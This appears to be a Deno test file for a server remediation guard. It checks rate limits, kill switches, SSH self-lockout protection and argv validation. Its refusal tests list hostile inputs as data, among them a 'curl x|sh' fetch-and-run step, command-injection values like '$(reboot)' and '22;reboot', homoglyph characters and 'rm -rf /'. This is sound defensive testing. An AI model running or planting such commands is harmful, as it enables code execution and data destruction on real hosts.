import assert from "node:assert/strict";
import {
  argvProblems,
  checkExecution,
  checkPlanArgv,
  type ExecutionContext,
  type GuardRule,
  selfLockoutPhrase,
  sshListenPorts,
  sshSessionIps,
} from "@/lib/remediation/guard.ts";
import { guardPolicy, type ProfileName } from "@/lib/remediation/profiles.ts";
import { buildActionPlan } from "@/lib/remediation/plans.ts";
import type { Plan } from "@/lib/remediation/types.ts";
import { fixtureInput, fixtureStatus } from "./plan_inputs.ts";

const NOW = new Date("2026-11-25T12:00:00.000Z");
const minutesAgo = (m: number) => new Date(NOW.getTime() - m * 60_000);

async function allPlans(): Promise<Plan[]> {
  const drift = await fixtureInput("status-drift.json");
  const ioc = await fixtureInput("status-ioc-outbound.json");
  return [
    await buildActionPlan("lockdown-access-surface", drift, {}),
    await buildActionPlan("quarantine-unexpected-listener", drift, { port: "tcp:6379" }),
    await buildActionPlan("quarantine-unexpected-listener", drift, {
      port: "tcp:8080",
      method: "kill",
    }),
    await buildActionPlan("harden-ssh-auth", drift, {}),
    await buildActionPlan("verify-system-drift", drift, { packages: ["openssh-server"] }),
    await buildActionPlan("collect-forensics-first", ioc, { pids: [2, 48813, 4194304] }),
    await buildActionPlan("block-ip", drift, { ip: "2001:db8:1:2::/64", durationSec: 604800 }),
  ];
}

function ctx(plan: Plan, over: Partial<ExecutionContext> = {}): ExecutionContext {
  return {
    policy: guardPolicy("balanced"),
    now: NOW,
    mode: "execute",
    trigger: "operator",
    hostId: "host_test01",
    plan,
    recentExecutesOfAction: [],
    executesLastHour: 0,
    queuedForHost: 0,
    queuedGlobal: 0,
    killSwitch: false,
    maintenanceWindows: [],
    requesterIp: "192.0.2.10",
    activeSshIps: [],
    ...over,
  };
}

const rules = (c: ExecutionContext): GuardRule[] => checkExecution(c).map((r) => r.rule);

Deno.test("[remediation] guard: every catalog plan passes every profile in a calm context", async () => {
  for (const plan of await allPlans()) {
    for (const profile of ["strict", "balanced", "rapid"] as ProfileName[]) {
      assert.deepEqual(
        checkPlanArgv(plan, guardPolicy(profile)),
        [],
        `${plan.actionId} ${profile}`,
      );
      assert.deepEqual(checkExecution(ctx(plan, { policy: guardPolicy(profile) })), []);
    }
  }
});

Deno.test("[remediation] guard: rate and queue rules", async () => {
  const plan = await buildActionPlan("block-ip", await fixtureInput("status-drift.json"), {
    ip: "203.0.113.9",
  });
  const cooldown = checkExecution(
    ctx(plan, { recentExecutesOfAction: [minutesAgo(2).toISOString()] }),
  );
  assert.deepEqual(cooldown.map((r) => [r.rule, r.status, r.retryAfterSec]), [[
    "cooldown",
    429,
    180,
  ]]);
  assert.match(cooldown[0].message, /Try again in 180 s/);
  assert.deepEqual(rules(ctx(plan, { recentExecutesOfAction: [minutesAgo(5)] })), []);
  assert.deepEqual(rules(ctx(plan, { executesLastHour: 6 })), ["hourly_cap"]);
  assert.deepEqual(rules(ctx(plan, { executesLastHour: 5 })), []);
  assert.deepEqual(rules(ctx(plan, { queuedForHost: 4 })), ["host_queue_cap"]);
  assert.deepEqual(rules(ctx(plan, { queuedGlobal: 200 })), ["global_queue_cap"]);
  // Host override: cooldown off, one queued job allowed.
  const over = ctx(plan, {
    hostOverride: { cooldownSec: 0, maxQueuedPerHost: 1 },
    recentExecutesOfAction: [minutesAgo(0)],
    queuedForHost: 1,
  });
  assert.deepEqual(rules(over), ["host_queue_cap"]);
  // Dry-runs are queue-capped only; rollbacks are never frozen or rate-limited.
  const busy = {
    recentExecutesOfAction: [NOW],
    executesLastHour: 99,
    queuedForHost: 99,
    killSwitch: true,
  };
  assert.deepEqual(rules(ctx(plan, { ...busy, mode: "dry-run" })), ["host_queue_cap"]);
  assert.deepEqual(rules(ctx(plan, { ...busy, mode: "rollback" })), []);
});

Deno.test("[remediation] guard: kill switch and maintenance windows", async () => {
  const plan = await buildActionPlan("block-ip", await fixtureInput("status-drift.json"), {
    ip: "203.0.113.9",
  });
  const frozen = checkExecution(ctx(plan, { killSwitch: true }));
  assert.deepEqual(frozen.map((r) => [r.rule, r.status]), [["kill_switch", 423]]);
  const window = { startsAt: minutesAgo(10), endsAt: minutesAgo(-50), reason: "kernel upgrade" };
  assert.deepEqual(rules(ctx(plan, { maintenanceWindows: [window], trigger: "automation" })), [
    "maintenance_window",
  ]);
  assert.deepEqual(rules(ctx(plan, { maintenanceWindows: [window] })), []);
  const strict = checkExecution(
    ctx(plan, { maintenanceWindows: [window], policy: guardPolicy("strict") }),
  );
  assert.deepEqual(strict.map((r) => [r.rule, r.status]), [["maintenance_window", 423]]);
  assert.match(strict[0].message, /kernel upgrade/);
  const past = { startsAt: minutesAgo(120), endsAt: minutesAgo(60) };
  assert.deepEqual(rules(ctx(plan, { maintenanceWindows: [past], trigger: "automation" })), []);
});

Deno.test("[remediation] guard: self-lockout for the requester, SSH peers and the SSH port", async () => {
  const drift = await fixtureInput("status-drift.json");
  const net = await buildActionPlan("block-ip", drift, { ip: "192.0.2.0/24" });
  const mine = checkExecution(ctx(net, { requesterIp: "::ffff:192.0.2.10" }));
  assert.deepEqual(mine.map((r) => [r.rule, r.status]), [["self_lockout", 409]]);
  assert.match(mine[0].message, /contains your current address 192\.0\.2\.10/);
  const phrase = selfLockoutPhrase("host_test01", net.planHash);
  assert.equal(phrase, `OVERRIDE SELF-LOCKOUT host_test01 ${net.planHash.slice(0, 8)}`);
  assert.ok(mine[0].message.includes(phrase));
  assert.deepEqual(rules(ctx(net, { overridePhrase: ` ${phrase} ` })), []);
  assert.deepEqual(rules(ctx(net, { overridePhrase: phrase.toLowerCase() })), ["self_lockout"]);
  assert.deepEqual(rules(ctx(net, { overridePhrase: phrase, trigger: "automation" })), [
    "self_lockout",
  ]);

  const peer = await buildActionPlan("block-ip", drift, { ip: "2001:db8::7" });
  assert.deepEqual(rules(ctx(peer, { activeSshIps: ["2001:DB8:0::7"] })), ["self_lockout"]);
  assert.deepEqual(rules(ctx(peer, { activeSshIps: ["2001:db8::8"] })), []);

  // An sshd listening on an odd port shows up as unexpected; denying it is a lockout.
  const sshd2222 = await fixtureInput("status-drift.json", (s) => {
    const item = {
      host: "0.0.0.0",
      pid: 611,
      port: 2222,
      proc: "sshd",
      proto: "tcp",
      public: true,
      raw: "",
      sig: "tcp|0.0.0.0|2222|sshd",
    };
    (s.ports_public as unknown[]).push(item);
    (s.ports_public_unexpected as unknown[]).push(item);
  });
  const deny = await buildActionPlan("lockdown-access-surface", sshd2222, {});
  const sshPorts = sshListenPorts(sshd2222.snapshot);
  assert.deepEqual(sshPorts, ["tcp:22", "tcp:2222"]);
  const locked = checkExecution(ctx(deny, { sshPorts, activeSshIps: ["198.51.100.23"] }));
  assert.match(locked[0].message, /denies the SSH port tcp:2222 while 1 SSH session/);
  assert.deepEqual(rules(ctx(deny, { sshPorts, requesterIp: null })), ["self_lockout"]);
  assert.deepEqual(rules(ctx(deny, { requesterIp: null })), []);
});

Deno.test("[remediation] guard: SSH peers come from last.json/diff.json accept lists", () => {
  const status = fixtureStatus("status-drift.json");
  assert.deepEqual(sshSessionIps({ status }), []);
  const last = {
    auth: { ssh_accepted: [{ user: "ops", ip: "198.51.100.23" }, { user: "x", ip: "bogus;" }] },
    new_ssh_accepts: [{ user: "ops", ip: "2001:DB8::1", ip_new: true }],
  };
  const diff = { new_ssh_accepts: [{ user: "ops", ip: "198.51.100.23" }] };
  assert.deepEqual(sshSessionIps({ status, last, diff }), ["198.51.100.23", "2001:db8::1"]);
  const envelope = JSON.parse(Deno.readTextFileSync(
    new URL("../../../../shared/fixtures/agent/envelope-real.json", import.meta.url),
  ));
  assert.deepEqual(sshSessionIps(envelope), []);
});

Deno.test("[remediation] guard: tampered plans are refused with argv_rule / step_limit / argv_length", async () => {
  const [lockdown] = await allPlans();
  const tampered: Plan = {
    ...lockdown,
    steps: [{ ...lockdown.steps[0], argv: ["/bin/sh", "-c", "ufw deny 6379/tcp; curl x|sh"] }],
  };
  const refusals = checkPlanArgv(tampered, guardPolicy());
  assert.ok(refusals.length >= 3);
  assert.ok(refusals.every((r) => r.rule === "argv_rule" && r.status === 403 && r.stepId));
  assert.ok(refusals.some((r) => /sh runs arbitrary code/.test(r.message)));
  assert.ok(refusals.some((r) => /" " |a space/.test(r.message)));

  const steps = checkExecution(ctx(lockdown, { hostOverride: { maxSteps: 2 } }));
  // Both the execute and the dry-run lists have 3 steps.
  assert.deepEqual(steps.map((r) => [r.rule, r.status]), [["step_limit", 400], [
    "step_limit",
    400,
  ]]);
  assert.match(steps[0].message, /steps has 3 steps; this host allows at most 2/);
  const forensics = (await allPlans())[5];
  const long = checkExecution(ctx(forensics, { hostOverride: { maxArgvChars: 64 } }));
  assert.ok(long.length > 0 && long.every((r) => r.rule === "argv_length" && r.status === 400));
  const badId = checkPlanArgv(
    { ...lockdown, steps: [{ ...lockdown.steps[0], id: "Deny!" }] },
    guardPolicy(),
  );
  assert.deepEqual(badId.map((r) => r.rule), ["step_limit"]);
});

Deno.test("[remediation] guard: known-bad argv are refused", () => {
  const policy = guardPolicy();
  const bad: Array<[string[], RegExp]> = [
    [["/bin/sh", "-c", "ls"], /sh runs arbitrary code/],
    [["sudo", "ls;", "anything"], /not allowed|absolute/],
    [["/usr/bin/sudo", "ls"], /sudo runs/],
    [["/tmp/bash"], /bash runs/],
    [["/usr/sbin/ufw", "deny", "22;reboot"], /shell metacharacter/],
    [["/usr/sbin/ufw", "$(reboot)"], /"\$"/],
    [["/usr/sbin/ufw", "`id`"], /"`"/],
    [["/usr/sbin/ufw", "status", "&&", "id"], /"&"/],
    [["/usr/sbin/../sbin/ufw", "status"], /normalized|allowlist/],
    [["usr/sbin/ufw", "status"], /absolute/],
    [["./ufw", "status"], /absolute/],
    [["/usr/sbin/ufw", "allow", "22"], /not an argument/],
    [["/usr/sbin/ufw", "disable"], /not an argument/],
    [["/usr/sbin/ufw", "status\n"], /control character/],
    [["/usr/sbin/ufw", "st\u0430tus"], /non-ASCII/],
    [["/usr/sbin/ufw", "status\u202e"], /non-ASCII/],
    [["/usr/sbin/ufw", "status\u200b"], /non-ASCII/],
    [["/usr/sbin/ufw", "deny\uff1breboot"], /non-ASCII/],
    [["/usr/sbin/ufw\u0000", "status"], /NUL/],
    [["/usr/sbin/ufw", ""], /empty/],
    [["/usr/bin/systemctl", "stop", "-Hevil.service"], /not an argument/],
    [["/usr/bin/systemctl", "edit", "x.service"], /not an argument/],
    [["/usr/bin/systemctl", "stop", "--host=evil"], /not an argument|another host/],
    [["/usr/bin/kill", "-s", "KILL", "-1"], /not an argument/],
    [["/usr/bin/kill", "1"], /not an argument/],
    [["/usr/bin/rm", "-rf", "/"], /not an argument/],
    [["/usr/bin/rm", "-f", "/etc/ssh/sshd_config.d/../../shadow.conf"], /path segments/],
    [["/usr/bin/rm", "-f", "/etc/ssh/sshd_config.d/x.conf"], /not allowed in execute/],
    [["/usr/sbin/sshd", "-o", "PermitRootLogin=no"], /needs one of -t, -T/],
    [["/usr/sbin/sshd", "-t", "-f", "/tmp/x"], /not an argument/],
    [["/usr/bin/journalctl", "--vacuum-size=1"], /not an argument/],
    [["/usr/bin/ss", "-K"], /not an argument/],
    [["/usr/bin/dpkg", "-i", "/tmp/x.deb"], /not an argument/],
    [["/usr/bin/install", "-m", "0755", "/tmp/evil", "/usr/local/bin/x"], /not an argument/],
    [["/usr/bin/python3", "-c", "print(1)"], /python3 runs/],
    [["/usr/bin/curl", "http://x"], /curl runs/],
    [["/usr/sbin/nft", "-c", "-f", "x"], /not on the allowlist/],
    [
      ["/usr/sbin/ufw", "--dry-run", "prepend", "deny", "from", "1.2.3.4", "comment", "a b"],
      /space/,
    ],
    [[], /empty/],
  ];
  for (const [argv, re] of bad) {
    const problems = argvProblems(argv, "execute", policy);
    assert.ok(problems.length > 0, `accepted ${JSON.stringify(argv)}`);
    assert.ok(problems.some((p) => re.test(p)), `${JSON.stringify(argv)}: ${problems.join(" | ")}`);
  }
  assert.deepEqual(argvProblems(["/usr/sbin/ufw", "status", "verbose"], "execute", policy), []);
  assert.deepEqual(
    argvProblems(["/usr/sbin/ufw", "status", "verbose"], "verify", policy).length,
    1,
  );
});
